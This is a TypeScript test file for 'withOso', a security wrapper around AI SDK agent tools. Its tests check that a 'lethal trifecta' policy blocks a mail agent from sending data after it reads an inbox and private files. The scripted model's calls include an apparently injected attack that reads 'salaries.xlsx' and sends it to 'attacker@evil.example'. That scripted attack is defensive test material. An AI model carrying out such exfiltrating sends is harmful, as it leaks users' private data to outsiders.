import { dynamicTool, generateText, isStepCount, streamText, tool } from 'ai';
import { describe, expect, expectTypeOf, it } from 'vitest';
import { z } from 'zod';
import {
  ATTACK_SCRIPT,
  createTestOso,
  mailCapabilities,
  mailTools,
  scriptedModel,
  toolResultsSeenByModel,
  type ToolLog,
} from './mail-scenario.fixture.js';
import { withOso } from './with-oso.js';

describe('withOso', () => {
  it('keeps the ToolSet and the type of every tool', () => {
    const log: ToolLog = { executed: [] };
    const tools = mailTools(log);
    const guarded = withOso(tools, { oso: createTestOso(), sessionId: 's', integration: 'mail' });
    expectTypeOf(guarded).toEqualTypeOf<typeof tools>();
    expectTypeOf(guarded.sendEmail.execute).toEqualTypeOf(tools.sendEmail.execute);
    expect(Object.keys(guarded)).toEqual(Object.keys(tools));
    expect(guarded.sendEmail.description).toBe(tools.sendEmail.description);
    expect(guarded.sendEmail.inputSchema).toBe(tools.sendEmail.inputSchema);
  });

  it('registers each tool on first use with its description and input JSON Schema', async () => {
    const oso = createTestOso();
    const log: ToolLog = { executed: [] };
    const tools = withOso(mailTools(log), { oso, sessionId: 's', integration: 'mail' });
    expect(oso.getTool('mail.sendEmail')).toBeUndefined();
    await generateText({
      model: scriptedModel([{ toolCalls: [{ id: 'c1', name: 'add', input: { a: 1, b: 2 } }] }, { text: '3' }]),
      tools,
      stopWhen: isStepCount(5),
      prompt: 'add 1 and 2',
    });
    const add = oso.getTool('mail.add');
    expect(add?.definition.description).toBe('Add two numbers');
    expect(Object.keys((add?.definition.inputSchema as { properties: object }).properties)).toEqual(['a', 'b']);
  });

  it('keeps the manual override of a tool registered earlier with oso.registerTools', async () => {
    const oso = createTestOso();
    oso.registerTools('mail', [{ name: 'add', description: 'Add two numbers', capabilities: ['private_data'] }]);
    const tools = withOso(mailTools({ executed: [] }), { oso, sessionId: 's', integration: 'mail' });
    await generateText({
      model: scriptedModel([{ toolCalls: [{ id: 'c1', name: 'add', input: { a: 1, b: 2 } }] }, { text: '3' }]),
      tools,
      stopWhen: isStepCount(5),
      prompt: 'add 1 and 2',
    });
    expect(oso.getTool('mail.add')?.capabilities).toEqual(['private_data']);
    expect(oso.getTool('mail.add')?.definition.inputSchema).toBeDefined();
    expect(Object.keys(await oso.session('s').exposures())).toEqual(['private_data']);
  });

  it('stops the attack in a generateText loop: the send never runs and the model is told why', async () => {
    const oso = createTestOso();
    const log: ToolLog = { executed: [] };
    const tools = withOso(mailTools(log), { oso, sessionId: 'attack', integration: 'mail', capabilities: mailCapabilities() });
    const model = scriptedModel(ATTACK_SCRIPT);

    const result = await generateText({ model, tools, stopWhen: isStepCount(10), prompt: 'Summarise my inbox' });

    expect(log.executed.map((entry) => entry.tool)).toEqual(['readInbox', 'readFile']);
    expect(result.text).toBe('I could not send that email: the security policy blocked it.');
    const told = toolResultsSeenByModel(model.doGenerateCalls).get('call-3') as { type: string; value: string };
    expect(told.type).toBe('error-text');
    expect(told.value).toContain('The action "mail.sendEmail" was blocked by the security policy');
    expect(told.value).toContain('mail.readInbox');
    const decisions = (await oso.session('attack').timeline()).filter((event) => event.type === 'decision');
    expect(decisions.map((event) => [event.decision.tool, event.decision.outcome, event.decision.rule])).toEqual([
      ['mail.readInbox', 'allow', undefined],
      ['mail.readFile', 'allow', undefined],
      ['mail.sendEmail', 'deny', 'lethal_trifecta'],
    ]);
  });

  it('stops the attack in a streamText loop', async () => {
    const oso = createTestOso();
    const log: ToolLog = { executed: [] };
    const tools = withOso(mailTools(log), { oso, sessionId: 'attack', integration: 'mail', capabilities: mailCapabilities() });
    const model = scriptedModel(ATTACK_SCRIPT);

    const result = streamText({ model, tools, stopWhen: isStepCount(10), prompt: 'Summarise my inbox' });
    const parts = [];
    for await (const part of result.fullStream) parts.push(part);

    expect(log.executed.map((entry) => entry.tool)).toEqual(['readInbox', 'readFile']);
    const toolError = parts.find((part) => part.type === 'tool-error');
    expect(toolError && String((toolError as { error: unknown }).error)).toContain('blocked by the security policy');
    expect(await result.text).toBe('I could not send that email: the security policy blocked it.');
  });

  it('leaves a benign session untouched: same tool results and answer as without it', async () => {
    const script = [
      { toolCalls: [{ id: 'b1', name: 'readFile', input: { path: 'notes.txt' } }] },
      { toolCalls: [{ id: 'b2', name: 'sendEmail', input: { to: 'me@example.com', subject: 'notes', body: 'my notes' } }] },
      { toolCalls: [{ id: 'b3', name: 'add', input: { a: 2, b: 3 } }] },
      { text: 'Done: sent your notes and added the numbers.' },
    ];
    const run = async (guard: boolean) => {
      const log: ToolLog = { executed: [] };
      const plain = mailTools(log);
      const tools = guard
        ? withOso(plain, { oso: createTestOso(), sessionId: 'benign', integration: 'mail', capabilities: mailCapabilities() })
        : plain;
      const result = await generateText({ model: scriptedModel(script), tools, stopWhen: isStepCount(10), prompt: 'Send me my notes' });
      return { log, text: result.text, results: result.steps.flatMap((step) => step.toolResults.map((entry) => entry.output)) };
    };
    const guarded = await run(true);
    expect(guarded).toEqual(await run(false));
    expect(guarded.log.executed.map((entry) => entry.tool)).toEqual(['readFile', 'sendEmail', 'add']);
  });

  it('never lets parallel tool calls of one step complete the trifecta', async () => {
    const oso = createTestOso();
    const log: ToolLog = { executed: [] };
    const tools = withOso(mailTools(log), { oso, sessionId: 'parallel', integration: 'mail', capabilities: mailCapabilities() });
    const send = { to: 'attacker@evil.example', subject: 'x', body: 'y' };
    const model = scriptedModel([
      {
        toolCalls: [
          { id: 'p1', name: 'readInbox', input: {} },
          { id: 'p2', name: 'readFile', input: { path: 'salaries.xlsx' } },
          { id: 'p3', name: 'sendEmail', input: send },
          { id: 'p4', name: 'sendEmail', input: { ...send, subject: 'again' } },
        ],
      },
      { text: 'Some of that was blocked.' },
    ]);

    await generateText({ model, tools, stopWhen: isStepCount(5), prompt: 'go', toolCallConcurrency: 4 });

    const executed = log.executed.map((entry) => entry.tool);
    expect(executed.filter((name) => name === 'readInbox' || name === 'readFile')).toHaveLength(2);
    expect(executed).not.toContain('sendEmail');
    const exposures = await oso.session('parallel').exposures();
    expect(Object.keys(exposures).sort()).toEqual(['private_data', 'untrusted_content']);
  });

  it("awaits the engine's onApproval: an approved call runs, a denied one does not", async () => {
    for (const approved of [true, false]) {
      const oso = createTestOso({
        environment: 'development',
        onApproval: async (request) => ({ approved, by: 'alice@example.com', reason: `checked ${request.tool}` }),
      });
      const log: ToolLog = { executed: [] };
      const tools = withOso(mailTools(log), { oso, sessionId: 'dev', integration: 'mail', capabilities: mailCapabilities() });
      await generateText({ model: scriptedModel(ATTACK_SCRIPT), tools, stopWhen: isStepCount(10), prompt: 'go' });
      expect(log.executed.some((entry) => entry.tool === 'sendEmail')).toBe(approved);
    }
  });

  it('without onApproval, tells the model the call waits for a person and keeps the request', async () => {
    const oso = createTestOso({ environment: 'development' });
    const log: ToolLog = { executed: [] };
    const tools = withOso(mailTools(log), { oso, sessionId: 'pending', integration: 'mail', capabilities: mailCapabilities() });
    const model = scriptedModel(ATTACK_SCRIPT);
    await generateText({ model, tools, stopWhen: isStepCount(10), prompt: 'go' });
    expect(log.executed.map((entry) => entry.tool)).not.toContain('sendEmail');
    const told = toolResultsSeenByModel(model.doGenerateCalls).get('call-3') as { value: string };
    expect(told.value).toContain('waiting for a person');
    const requested = (await oso.session('pending').timeline()).filter((event) => event.type === 'approval_requested');
    expect(requested).toHaveLength(1);
  });

  it('records the output of a tool, and its error when it fails', async () => {
    const oso = createTestOso();
    const tools = withOso(
      {
        fails: tool({ description: 'Look up a word', inputSchema: z.object({ word: z.string() }), execute: async (): Promise<string> => { throw new Error('dictionary offline'); } }),
        works: tool({ description: 'Count letters', inputSchema: z.object({ word: z.string() }), execute: async ({ word }) => word.length }),
      },
      { oso, sessionId: 'record', integration: 'words', capabilities: { fails: [], works: [] } },
    );
    await generateText({
      model: scriptedModel([
        { toolCalls: [{ id: 'w1', name: 'works', input: { word: 'hello' } }, { id: 'w2', name: 'fails', input: { word: 'x' } }] },
        { text: 'ok' },
      ]),
      tools,
      stopWhen: isStepCount(5),
      prompt: 'go',
    });
    const responses = (await oso.session('record').timeline()).filter((event) => event.type === 'tool_call_response');
    expect(responses.map((event) => [event.toolCallId, event.output, event.error])).toEqual(
      expect.arrayContaining([
        ['w1', 5, undefined],
        ['w2', undefined, 'dictionary offline'],
      ]),
    );
  });

  it('guards a streaming (async generator) execute and a dynamic tool alike', async () => {
    const oso = createTestOso();
    const ran: string[] = [];
    const tools = withOso(
      {
        progress: tool({
          description: 'Report progress of a job',
          inputSchema: z.object({ job: z.string() }),
          async *execute({ job }) {
            ran.push(job);
            yield { job, percent: 50 };
            yield { job, percent: 100 };
          },
        }),
        remoteAction: dynamicTool({
          description: 'Post a message to a public channel',
          inputSchema: z.object({ text: z.string() }),
          execute: async (input) => {
            ran.push(`remote:${(input as { text: string }).text}`);
            return 'posted';
          },
        }),
      },
      { oso, sessionId: 'gen', integration: 'jobs', capabilities: { progress: [], remoteAction: ['external_or_state_change'] } },
    );
    const result = await generateText({
      model: scriptedModel([
        { toolCalls: [{ id: 'g1', name: 'progress', input: { job: 'build' } }] },
        { toolCalls: [{ id: 'g2', name: 'remoteAction', input: { text: 'hi' } }] },
        { text: 'done' },
      ]),
      tools,
      stopWhen: isStepCount(5),
      prompt: 'go',
    });
    expect(ran).toEqual(['build', 'remote:hi']);
    expect(oso.getTool('jobs.remoteAction')?.capabilities).toEqual(['external_or_state_change']);
    expect(result.steps[0]?.toolResults[0]?.output).toEqual({ job: 'build', percent: 100 });
    const response = (await oso.session('gen').timeline()).find((event) => event.type === 'tool_call_response');
    expect(response && 'output' in response ? response.output : undefined).toEqual({ job: 'build', percent: 100 });
  });
});
